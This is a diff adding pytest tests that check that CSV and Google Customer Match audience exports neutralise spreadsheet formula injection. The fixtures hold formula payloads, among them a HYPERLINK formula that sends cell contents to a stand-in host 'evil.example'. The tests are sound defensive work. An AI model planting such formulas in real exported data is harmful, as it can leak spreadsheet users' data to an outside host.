@@ -243,6 +243,73 @@ def test_diff_baseline_is_the_previous_diff_not_another_format(settings, defs_fo
     assert log == [("diff", AS_OF, 10, None), ("diff", NEXT, 0, AS_OF)]
 
 
+def test_csv_neutralises_spreadsheet_formulas_in_free_text_only(built, tmp_path):
+    # CRM values a spreadsheet would run as formulas (OWASP "CSV Injection").
+    con = connect(built.warehouse)
+    con.execute(
+        """update marts.customers set
+            first_name = '=HYPERLINK("https://evil.example/?"&A2, "Click")',
+            last_name = '+SUM(1,2)', city = '@cmd', loyalty_tier = '-2+3',
+            postal_code = chr(9) || '=1+1', phone = '+1 (415) 555-2671'
+        where customer_id = 'C07'"""
+    )
+    con.execute(
+        "update marts.customers set first_name = chr(13) || '=1', email = '-hugo@example.com' "
+        "where customer_id = 'C08'"
+    )
+    con.close()
+    cols = ["first_name", "last_name", "city", "loyalty_tier", "postal_code", "email", "phone"]
+    cols += ["birth_date"]
+    out = tmp_path / "names.csv"
+    export_audience(built, "everyone", "csv", out, columns=cols)
+    rows = {r["customer_id"]: r for r in _rows(out)}
+    assert rows["C07"] == {
+        "customer_id": "C07",
+        "first_name": '\'=HYPERLINK("https://evil.example/?"&A2, "Click")',
+        "last_name": "'+SUM(1,2)",
+        "city": "'@cmd",
+        "loyalty_tier": "'-2+3",
+        "postal_code": "'\t=1+1",
+        "email": "grace@example.com",
+        "phone": "+1 (415) 555-2671",  # phones are data: never prefixed
+        "birth_date": "",
+    }
+    assert rows["C08"]["first_name"] == "'\r=1"
+    assert rows["C08"]["email"] == "-hugo@example.com"  # e-mail: data, unchanged
+    assert rows["C01"] == {  # ordinary values untouched
+        "customer_id": "C01",
+        "first_name": "Anna",
+        "last_name": "Smith",
+        "city": "Boston",
+        "loyalty_tier": "gold",
+        "postal_code": "02118-1234",
+        "email": " Anna.Smith@Example.com ",
+        "phone": "+1 (415) 555-2671",
+        "birth_date": "1990-05-01",
+    }
+    # parquet is typed data, not opened in a spreadsheet: values as stored.
+    export_audience(built, "everyone", "parquet", tmp_path / "n.parquet", columns=cols[:2])
+    table = pq.read_table(tmp_path / "n.parquet").to_pylist()
+    c07 = next(r for r in table if r["customer_id"] == "C07")
+    assert c07["first_name"] == '=HYPERLINK("https://evil.example/?"&A2, "Click")'
+
+
+def test_google_file_clear_text_columns_cannot_be_formulas(built, tmp_path):
+    con = connect(built.warehouse)
+    con.execute(
+        "update marts.customers set postal_code = '=1+1', country = 'fr' where customer_id = 'C08'"
+    )
+    con.execute("update marts.customers set country = '=A1' where customer_id = 'C10'")
+    con.close()
+    out = tmp_path / "g.csv"
+    export_audience(built, "everyone", "google_customer_match", out)
+    rows = {r["Email"]: r for r in _rows(out)}
+    hugo, jonas = rows[_sha("hugo@example.com")], rows[_sha("jonas@example.com")]
+    assert (hugo["Country"], hugo["Zip"]) == ("FR", "")
+    assert (jonas["Country"], jonas["Zip"]) == ("", "211 20")
+    assert not any(v[:1] in "=+-@\t\r" for r in rows.values() for v in r.values() if v)
+
+
 def test_unknown_audience_or_column_is_a_clear_error(built, tmp_path):
     with pytest.raises(SegmintError, match="'nope' has no built snapshot"):
         export_audience(built, "nope", "csv", tmp_path / "x.csv")
